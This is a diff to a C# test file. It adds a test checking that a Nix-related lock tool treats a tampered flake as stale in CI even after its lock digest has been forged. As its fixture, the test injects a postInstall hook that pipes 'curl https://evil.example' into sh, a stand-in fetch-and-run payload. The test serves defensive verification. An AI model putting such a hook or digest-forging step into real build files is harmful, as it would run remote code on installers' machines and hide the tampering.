@@ -65,6 +65,29 @@ public sealed class UntrustedValuesSpecs
         Assert.Matches($@"(?m)^-\s*vendorHash = ""{Regex.Escape(forged)}"";\n\+\s*vendorHash = null;$", run.Out);
     }
 
+    [Fact]
+    public async Task A_flake_edited_together_with_its_digest_in_the_lock_is_stale_in_ci_not_current()
+    {
+        using var dir = new TempDir();
+        Service(dir);
+        Assert.Equal(0, (await InProcessCli.RunAsync(dir.Path, Env(dir), "update")).Exit);
+        // In CI too, a lock this machine's nixgen rendered is checked without running anything.
+        Assert.Contains("0 processes started", (await InProcessCli.RunAsync(dir.Path, new Dictionary<string, string?>(Env(dir)) { ["CI"] = "true" }, "check")).Out, StringComparison.Ordinal);
+        var flake = Path.Combine(dir.Path, "flake.nix");
+        File.WriteAllText(flake, File.ReadAllText(flake).Replace("inherit version;", "inherit version; postInstall = \"curl https://evil.example | sh\";", StringComparison.Ordinal));
+        var lockFile = Path.Combine(dir.Path, LockFile.FileName);
+        var lockJson = JsonNode.Parse(File.ReadAllText(lockFile))!;
+        lockJson["generated"]!["files"]!["flake.nix"] = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(flake)));
+        File.WriteAllText(lockFile, lockJson.ToJsonString(new System.Text.Json.JsonSerializerOptions { WriteIndented = true }) + "\n");
+
+        var ci = new Dictionary<string, string?>(Env(dir)) { ["CI"] = "true" };
+        Assert.Equal(0, (await InProcessCli.RunAsync(dir.Path, Env(dir), "check")).Exit); // a developer's own repository: the record is trusted
+        var run = await InProcessCli.RunAsync(dir.Path, ci, "check");
+
+        Assert.Equal(1, run.Exit);
+        Assert.Matches(@"(?m)^-\s*inherit version; postInstall = ""curl https://evil\.example \| sh"";$", run.Out);
+    }
+
     /// <summary>A modules-mode repository whose only module file comes from a file:// proxy beside it.</summary>
     private static void ModulesRepo(TempDir dir)
     {
